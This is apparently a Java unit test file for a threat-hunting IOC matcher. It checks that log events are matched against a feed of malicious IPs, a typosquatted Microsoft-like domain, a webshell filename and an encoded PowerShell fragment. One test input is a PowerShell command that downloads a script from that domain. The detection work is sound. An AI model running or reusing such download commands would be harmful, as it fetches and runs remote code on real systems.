package dev.tradecraft.hunt.ioc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import org.junit.jupiter.api.Test;

import dev.tradecraft.core.Event;
import dev.tradecraft.core.EventFields;
import dev.tradecraft.core.Logsource;
import dev.tradecraft.core.Origin;
import dev.tradecraft.core.SourcePosition;

class TestIocMatcher
{
    private static final String FEED = """
            ip,107.191.58[.]76,Eye,2025-07-20
            ip,2001:db8::5,test,
            sha256,92bb4ddb98eeaf11fc15bb32e71d0a63256a0ed826a03ba293ce3a8bf057a514,Rapid7,
            domain,update.updatemicfosoft[.]com,Microsoft,
            user-agent,Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0,Rapid7,
            filename,spinstall0.aspx,Eye,
            command,-EncodedCommand JABiAGEAcwBlADYANABTAHQAcgBpAG4AZwAgAD0,Rapid7,
            """;

    @Test
    void testClientIpAndForwardedListWithPort()
    {
        assertEquals(List.of("ioc:ip:107.191.58.76"), found(Map.of("c-ip", "107.191.58.76")));
        assertEquals(List.of("ioc:ip:107.191.58.76"), found(Map.of("c-ip", "10.0.0.5", "X-Forwarded-For", "198.51.100.1, 107.191.58.76:51234")));
        assertEquals(List.of(), found(Map.of("c-ip", "107.191.58.77")));
    }

    @Test
    void testIpv6IsComparedCanonically()
    {
        assertEquals(List.of("ioc:ip:2001:db8:0:0:0:0:0:5"), found(Map.of("SourceIp", "2001:0db8:0:0::5")));
    }

    @Test
    void testIpInUnrelatedFieldIsIgnored()
    {
        assertEquals(List.of(), found(Map.of("cs-uri-query", "x=107.191.58.76")));
    }

    @Test
    void testHashInSysmonHashes()
    {
        assertEquals(List.of("ioc:sha256:92bb4ddb98eeaf11fc15bb32e71d0a63256a0ed826a03ba293ce3a8bf057a514"),
                found(Map.of("Hashes", "SHA1=0000000000000000000000000000000000000000,SHA256=92BB4DDB98EEAF11FC15BB32E71D0A63256A0ED826A03BA293CE3A8BF057A514,IMPHASH=00")));
    }

    @Test
    void testFileNameInHostPathsButNotInUrls()
    {
        assertEquals(List.of("ioc:filename:spinstall0.aspx"),
                found(Map.of("TargetFilename", "C:\\Program Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\16\\TEMPLATE\\LAYOUTS\\spinstall0.aspx")));
        assertEquals(List.of(), found(Map.of("cs-uri-stem", "/_layouts/15/spinstall0.aspx")));
    }

    @Test
    void testDomainExactInHostFieldsAndInsideCommandLines()
    {
        assertEquals(List.of("ioc:domain:update.updatemicfosoft.com"), found(Map.of("QueryName", "Update.UpdateMicfosoft.com.")));
        assertEquals(List.of("ioc:domain:update.updatemicfosoft.com"),
                found(Map.of("CommandLine", "powershell iwr https://update.updatemicfosoft.com/a.ps1")));
        assertEquals(List.of(), found(Map.of("QueryName", "msupdate.update.com")));
    }

    @Test
    void testUserAgentIsExact()
    {
        assertEquals(1, found(Map.of("cs-user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0")).size());
        assertEquals(0, found(Map.of("cs-user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0")).size());
    }

    @Test
    void testCommandSubstring()
    {
        assertEquals(List.of("ioc:command:-EncodedCommand JABiAGEAcwBlADYANABTAHQAcgBpAG4AZwAgAD0"),
                found(Map.of("CommandLine", "powershell.exe -EncodedCommand JABiAGEAcwBlADYANABTAHQAcgBpAG4AZwAgAD0AIAAiAA==")));
    }

    @Test
    void testEmptyMatcherFindsNothing()
    {
        assertTrue(IocMatcher.empty().isEmpty());
        List<String> hits = new ArrayList<>();
        IocMatcher.empty().match(event(Map.of("c-ip", "107.191.58.76")), (indicator, field, value) -> hits.add(indicator.value()));
        assertFalse(hits.size() > 0);
    }

    private static List<String> found(Map<String, String> fields)
    {
        IocMatcher matcher;
        try {
            IocFeed feed = IocFeed.read("feed.csv", new StringReader(FEED));
            assertEquals(List.of(), feed.problems());
            matcher = new IocMatcher(feed.indicators());
        }
        catch (IOException e) {
            throw new AssertionError(e);
        }
        List<String> ids = new ArrayList<>();
        matcher.match(event(fields), (indicator, field, value) -> ids.add(indicator.ref().id()));
        return ids;
    }

    private static Event event(Map<String, String> fields)
    {
        EventFields.Builder builder = EventFields.builder(fields.size());
        fields.entrySet().stream().sorted(Map.Entry.comparingByKey()).forEach(entry -> builder.put(entry.getKey(), entry.getValue()));
        return new Event(new Origin("org", "host"), SourcePosition.line("f.log", 1), Optional.empty(), Logsource.UNSTATED, builder.build());
    }
}
